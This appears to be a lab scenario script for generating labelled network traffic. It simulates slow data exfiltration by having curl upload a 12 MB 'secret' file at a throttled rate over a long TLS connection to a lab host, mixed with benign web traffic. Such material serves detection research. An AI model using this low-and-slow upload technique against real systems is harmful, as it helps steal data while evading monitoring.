# SPDX-License-Identifier: MIT
# label: exfil
# source: lab-curl
# needs: python3 openssl
# seconds: 180
# A long TLS connection on which a file trickles out for minutes.
. $lab/victims.sh

servers() {
	_port=$(choose 443 8443)
	victim_site t "$_port"
}

scenario() {
	_rate=$(choose 5k 20k 60k)
	mix benign/web-many-hosts
	setting options "$_rate byte/s to port $_port"
	blob "$work/secret" 12000000
	attack c t tcp "$_port" -- timeout 150 curl -sk --limit-rate "$_rate" -o /dev/null \
		-T "$work/secret" "https://$(addr t):$_port/upload/x"
}
